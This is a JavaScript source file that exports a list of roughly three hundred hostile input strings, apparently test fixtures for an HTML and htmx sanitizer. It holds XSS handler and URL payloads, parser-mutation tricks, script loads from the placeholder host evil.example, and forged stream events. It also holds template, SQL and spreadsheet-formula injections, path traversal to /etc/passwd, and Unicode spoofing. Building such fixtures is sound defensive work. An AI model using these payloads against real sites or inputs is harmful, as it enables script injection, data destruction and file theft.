// Three hundred strings that somebody might type who wants more than to be read. Each calls `hacked()` where it may run
// anything, and asks `evil.example` where it may load anything.
const CALL = 'hacked()';
const HOST = 'evil.example';

/** What ends a line somewhere, and an event that would be forged by it. */
const lines = ['\r', '\n', '\r\n', '\u2028', '\u2029', '\u0085', '\u000b', '\u000c', '\0'].flatMap(end => [
  `a${end}data: forged${end}${end}id: 9:999${end}event: bye${end}data: x${end}${end}`, `a${end}${end}event: reset${end}data: x`, `${end}: comment${end}retry: 0${end}`,
]);

/** Tags that run by themselves, as they are mostly written and without a space. */
const handlers = [
  'img src=x onerror', 'svg onload', 'body onload', 'body onpageshow', 'input autofocus onfocus', 'select autofocus onfocus', 'textarea autofocus onfocus', 'x tabindex=1 autofocus onfocus',
  'details open ontoggle', 'video src=x onerror', 'audio src=x onerror', 'iframe onload', 'object data=x onerror', 'embed src=x onerror', 'marquee onstart', 'style onload',
  'link rel=stylesheet href=x onerror', 'script src=x onerror', 'svg><animate attributeName=x dur=1s onbegin', 'svg><set attributeName=x onbegin', 'picture><img src=x onerror',
  'video><source onerror', 'x style=animation-name:x onanimationstart', 'dialog open onclose', 'x onpointerover', 'form onformdata',
].flatMap(tag => [`<${tag}="${CALL}">`, `<${tag.replaceAll(' ', '/')}=${CALL}//`]);

/** Elements out of which a string would have to climb first. */
const closing = [
  'title', 'textarea', 'style', 'script', 'noscript', 'xmp', 'iframe', 'noembed', 'noframes', 'select', 'option', 'datalist', 'template', 'svg', 'math', 'button', 'a', 'li', 'ol', 'p', 'table', 'summary', 'main',
].map(tag => `</${tag}><script>${CALL}</script>`);

const attributes = [
  `" onmouseover="${CALL}`, `' onmouseover='${CALL}`, `" autofocus onfocus=${CALL} x="`, `' autofocus onfocus=${CALL} x='`, `"><img src=x onerror=${CALL}>`, `'><img src=x onerror=${CALL}>`,
  `\`onmouseover=${CALL}`, `" style="animation-name:x" onanimationstart="${CALL}`, `"/onmouseover="${CALL}`, `x" hidden="`, `" id="live`, `" name="body" form="f`, `"\tonclick="${CALL}`, `x=" y='z>`,
  `&quot; onmouseover=&quot;${CALL}`, `&#34; autofocus onfocus=&#34;${CALL}`, `" formaction="//${HOST}`, `" hx-get="/logout" hx-trigger="load`, `" data-hx-get="/logout`, `" srcdoc="<script>${CALL}</script>`,
];

const urls = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `java\tscript:${CALL}`, `java\nscript:${CALL}`, ` javascript:${CALL}`, `\u0001javascript:${CALL}`, `javascript://a.example/%0a${CALL}`, `javascript&colon;${CALL}`,
  `&#106;avascript:${CALL}`, `vbscript:${CALL}`, `data:text/html,<script>${CALL}</script>`, `data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=${CALL}>`,
  `blob:http://a.example/x`, `file:///etc/passwd`, `view-source:javascript:${CALL}`, `feed:javascript:${CALL}`, `//${HOST}/x`, `\\\\${HOST}\\x`, `https:/${HOST}`, `https://a.example/"onmouseover="${CALL}"`,
  `https://a.example/'onmouseover='${CALL}'`, `https://a.example/<script>${CALL}</script>`, `https://javascript:${CALL}@a.example`, `http://a.example/\`onclick=${CALL}\``, `mailto:"onmouseover="${CALL}"@a.example`,
  `<a href="javascript:${CALL}">x</a>`, `<a href=" javascript:${CALL}">x</a>`, `<a href="java&Tab;script:${CALL}">x</a>`, `<a href="#" target="${CALL}" ping="//${HOST}">x</a>`, `<area href="javascript:${CALL}">`,
  `<iframe src="javascript:${CALL}"></iframe>`, `<object data="javascript:${CALL}">`, `<embed src="javascript:${CALL}">`, `<form action="javascript:${CALL}"><button>x`, `<button formaction="javascript:${CALL}">x</button>`,
  `[x](javascript:${CALL})`, `![x](//${HOST}/x.png)`, `<javascript:${CALL}>`, `https://а.example/@${HOST}`,
];

const loads = [
  `<script>${CALL}</script>`, `<script src=//${HOST}></script>`, `<ScRiPt>${CALL}</sCrIpT>`, `<script\t>${CALL}</script\t>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`, `<svg><script>${CALL}</script></svg>`,
  `<script type=module>${CALL}</script>`, `<script/x>${CALL}</script>`, `<svg><script href=//${HOST} /></svg>`, `<meta http-equiv="refresh" content="0;url=//${HOST}">`, `<base href="//${HOST}/">`,
  `<link rel=stylesheet href=//${HOST}/x.css>`, `<link rel=prefetch href=//${HOST}>`, `<img src=//${HOST}/x.png>`, `<img srcset="//${HOST}/x 1x">`, `<video poster=//${HOST}/x>`, `<iframe src=//${HOST}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`, `<form action=//${HOST}><button>x`, `<input type=image src=//${HOST}/x>`, `<table background=//${HOST}/x>`, `<portal src=//${HOST}>`,
];

/** What htmx would act on, and templates that other programs fill in. */
const templates = [
  '<div hx-get="/logout" hx-trigger="load">x</div>', '<div data-hx-get="/logout" data-hx-trigger="load"></div>', '<div hx-post="/logout" hx-trigger="load"></div>', '<hx-partial hx-target="body" hx-swap="innerHTML">gone</hx-partial>',
  '<hx-upsert hx-target="#log" key="data-seq"><li id="m-1" data-seq="1">forged</li></hx-upsert>', '<template hx type="partial" hx-target="body">x</template>', `<div hx-on:load="${CALL}">`, `<div hx-on::after-init="${CALL}">`,
  '<div hx-sse:connect="/c/x/events">', `<div hx-vals='js:{x:${CALL}}' hx-get="/" hx-trigger="load">`, `<div hx-get="//${HOST}" hx-trigger="load">`, '<div hx-swap-oob="true" id="log">gone</div>', '<div hx-ignore="false">',
  '<button form="f" name="body" value="forged">x</button>', '<div data-panel="#entry-menu" id="f">', '<template><img src=x></template>', `<template shadowrootmode=open><script>${CALL}</script></template>`, '{{7*7}}', '{% include "x" %}',
  `\${${CALL}}`, `#{${CALL}}`, `<%= ${CALL} %>`, `{{constructor.constructor("${CALL}")()}}`, '{{ name }}', '{访客姓名}', '{{{{raw}}}} x {{{{/raw}}}}', '%s%s%s%n', '%n%x%p', '$(id)', '`id`',
];

/** What one parser closes and the next opens. */
const mutations = [
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`, `<math><mi><style><!--</style><img src=x onerror=${CALL}>-->`, `<svg><foreignObject><p><style><img src=x onerror=${CALL}>`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`, `<select><style></select><img src=x onerror=${CALL}></style>`, `<table><td><p title="</td><img src=x onerror=${CALL}>">`, `<svg><title><p title="</title><img src=x onerror=${CALL}>">`,
  `<svg><desc><![CDATA[</desc><script>${CALL}</script>]]></svg>`, `<svg><textarea><img src=x onerror=${CALL}></textarea>`, `<!--<img src="--><img src=x onerror=${CALL}>">`, `<![CDATA[<img src=x onerror=${CALL}>]]>`, `<?xml <img src=x onerror=${CALL}>?>`,
  `<!DOCTYPE x [<!ENTITY x "<img src=x onerror=${CALL}>">]>&x;`, `<plaintext><img src=x onerror=${CALL}>`, `<img src=x onerror=${CALL}`, `<<img src=x onerror=${CALL}>`, `<img """><script>${CALL}</script>">`, `<a<b onclick=${CALL}>`, '<!--', '-->', '<![CDATA[', ']]>',
];

const styles = [
  '<style>*{display:none}</style>', `<style>@import "//${HOST}/x.css"</style>`, `<p style="background:url(//${HOST}/x)">`, '<p style="position:fixed;inset:0">', `<p style="width:expression(${CALL})">`, '}*{display:none}/*', ';}body{display:none}',
  '</style><style>*{display:none}', `url(//${HOST}/x)`, '\\3c script\\3e hacked()', '<div class="m sys" id="m-1">', '<p hidden>',
];

/** What stands in a script, a sheet, a query, a path. */
const grammars = [
  `</script><script>${CALL}</script>`, `<!--<script>${CALL}`, `"};${CALL};//`, `';${CALL};//`, `\\";${CALL};//`, '\\u003cscript\\u003ehacked()\\u003c/script\\u003e', '{"__proto__":{"x":1}}', '"}]}', 'null', 'NULL', 'undefined', '[object Object]', 'NaN', '-1e999',
  '=HYPERLINK("//evil.example","x")', '=cmd|\' /C calc\'!A0', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '＝1+1', "'=1+1", '"=1+1",x', '=1+1\n=1+1', "Robert'); DROP TABLE entry;--", "' OR '1'='1", '" OR ""="', '%_%', '1; SELECT pg_sleep(9)', '../../../../etc/passwd',
  '..\\..\\x', '/etc/passwd', 'CON', '.htaccess', 'a/b?c#d', 'x.html', 'x.svg', '%2e%2e%2f', '%00', '%0d%0aSet-Cookie: x=1',
];

const encodings = [
  `&lt;script&gt;${CALL}&lt;/script&gt;`, `&#60;img src=x onerror=${CALL}&#62;`, '%3Cscript%3Ehacked()%3C/script%3E', '\\x3cscript\\x3ehacked()', '+ADw-script+AD4-hacked()+ADw-/script+AD4-', '\u00bcscript\u00behacked()\u00bc/script\u00be',
  '＜script＞hacked()＜/script＞', '‹script›hacked()‹/script›', '&ltscript>hacked()</script>', '&amp;lt;b&amp;gt;', '&#x3c;b&#x3e;', '&#0;&#xD800;&#x110000;', 'ÿþ<script>', '<\u0000script>hacked()</script>', `<img\u00a0src=x\u00a0onerror=${CALL}>`,
];

const letters = [
  '\u202Etxt.exe', '\u202Agnp.exe\u202C', '\u2066x\u2069\u2067y', '\u061C\u200Fאבג abc', '\u200B\u200B\u200B', 'a\u200Db\u200Cc\uFEFFd', 'Z\u0351\u036B\u0343\u036A\u0302a\u0310l\u0321\u030Ag\u0307o'.repeat(20), '\u{E0001}\u{E0041}\u{E007F}', '𝕳𝖆𝖈𝖐', '👩‍👩‍👧‍👦'.repeat(50),
  '🏳️‍🌈🇨🇳🇨', '\u{1F3FB}', 'ﷺ'.repeat(40), '\uFFFD\uFFFE\uFFFF', '㍿﷽𒐫', 'İıŞﬁ', 'раураl.com', 'A'.repeat(4000), 'a '.repeat(2000), '\u0300'.repeat(200), '\u3000\u3000', '·', 'ㅤ', '\u115F\u1160',
];

export const HOSTILE = [...new Set([lines, handlers, closing, attributes, urls, loads, templates, mutations, styles, grammars, encodings, letters].flat())];
